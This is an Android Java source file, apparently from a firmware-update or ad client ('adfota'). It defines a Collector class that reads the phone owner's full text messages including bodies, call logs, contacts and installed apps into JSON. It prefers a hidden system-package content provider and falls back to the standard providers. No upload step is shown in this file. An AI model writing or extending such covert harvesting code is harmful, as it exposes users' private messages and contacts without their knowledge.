package com.adfota.client;

import android.content.ContentResolver;
import android.content.Context;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.net.Uri;
import android.provider.CallLog;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.provider.Telephony;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads the owner's data: through the system package's provider if there is one, else by itself. */
final class Collector {
    private static final String SYSTEM = "content://com.adfota.sysoper.info/";
    private static final String[] SMS = {"_id", "address", "date", "type", "body"};
    private static final String[] CALLS = {"number", "date", "duration", "type", "name"};
    private static final String[] CONTACTS = {"display_name", Phone.NUMBER};

    private final Context context;
    private final boolean viaSystem;

    private Collector(Context context, boolean viaSystem) {
        this.context = context;
        this.viaSystem = viaSystem;
    }

    static Collector of(Context context) {
        String authority = Uri.parse(SYSTEM).getAuthority();
        boolean present =
                context.getPackageManager().resolveContentProvider(authority, 0) != null;
        return new Collector(context, present);
    }

    JSONArray texts() throws JSONException {
        return viaSystem ? rows(system("sms"), SMS) : rows(Telephony.Sms.CONTENT_URI, SMS);
    }

    JSONArray calls() throws JSONException {
        return viaSystem ? rows(system("calls"), CALLS) : rows(CallLog.Calls.CONTENT_URI, CALLS);
    }

    JSONArray contacts() throws JSONException {
        return viaSystem ? rows(system("contacts"), CONTACTS) : rows(Phone.CONTENT_URI, CONTACTS);
    }

    JSONObject status() throws JSONException {
        if (!viaSystem) {
            return Status.read(context);
        }
        JSONArray pairs = rows(system("status"), new String[] {"key", "value"});
        JSONObject status = new JSONObject();
        for (int i = 0; i < pairs.length(); i++) {
            status.put(pairs.getJSONObject(i).getString("key"), pairs.getJSONObject(i).opt("value"));
        }
        return status;
    }

    JSONArray apps() throws JSONException {
        JSONArray apps = new JSONArray();
        for (PackageInfo info : context.getPackageManager().getInstalledPackages(0)) {
            JSONObject app = new JSONObject();
            apps.put(app.put("package", info.packageName).put("version", info.versionName));
        }
        return apps;
    }

    private static Uri system(String what) {
        return Uri.parse(SYSTEM + what);
    }

    private JSONArray rows(Uri uri, String[] columns) throws JSONException {
        JSONArray rows = new JSONArray();
        ContentResolver resolver = context.getContentResolver();
        try (Cursor cursor = resolver.query(uri, columns, null, null, null)) {
            while (cursor != null && cursor.moveToNext()) {
                JSONObject row = new JSONObject();
                for (int column = 0; column < columns.length; column++) {
                    row.put(columns[column], cursor.getString(column));
                }
                rows.put(row);
            }
        }
        return rows;
    }
}
